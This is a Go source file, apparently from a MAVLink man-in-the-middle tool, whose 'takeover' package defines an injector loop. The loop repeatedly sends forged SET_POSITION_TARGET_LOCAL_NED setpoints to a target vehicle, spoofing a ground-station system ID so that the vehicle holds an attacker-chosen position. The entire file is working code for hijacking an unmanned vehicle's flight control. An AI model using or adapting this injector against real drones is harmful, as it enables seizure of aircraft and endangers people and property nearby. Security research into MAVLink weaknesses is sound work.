package takeover

import (
	"time"

	"mavmitm/logger"
	"mavmitm/mavlink"
	"mavmitm/metrics"
)

const (
	// Position-only hold: velocity, acceleration and yaw-rate fields are
	// masked out of the injected SET_POSITION_TARGET_LOCAL_NED.
	injectTypeMask = 0x09F8

	frameLocalNed = 1

	injectSystemID    = 255
	injectComponentID = 190
	targetSystemID    = 1
	targetComponentID = 1
)

// runInjector sends the target setpoint at the session rate until the
// session's stop channel closes. It closes done on exit so the next
// Engage/Disengage can join it.
func runInjector(s *session, send Sender, onStart, onStop func()) {
	defer close(s.done)
	if onStart != nil {
		onStart()
	}
	if onStop != nil {
		defer onStop()
	}
	if send == nil {
		logger.Error("injector has no datagram sink, stopping")
		return
	}

	period := time.Duration(float64(time.Second) / s.hz)
	var seq uint8

	for {
		select {
		case <-s.stop:
			return
		default:
		}

		msg := &mavlink.SetPositionTargetLocalNed{
			TimeBootMs:      uint32(time.Now().UnixMilli() % 3_600_000),
			TargetSystem:    targetSystemID,
			TargetComponent: targetComponentID,
			CoordinateFrame: frameLocalNed,
			TypeMask:        injectTypeMask,
			X:               float32(s.target.X),
			Y:               float32(s.target.Y),
			Z:               float32(-s.target.Alt),
			Yaw:             float32(s.target.Yaw),
		}
		buf, err := mavlink.EncodeV2(msg, seq, injectSystemID, injectComponentID)
		if err != nil {
			logger.Error("injector encode failed: %v", err)
			return
		}
		seq++

		send(buf)
		metrics.Global.IncInjected()

		select {
		case <-s.stop:
			return
		case <-time.After(period):
		}
	}
}
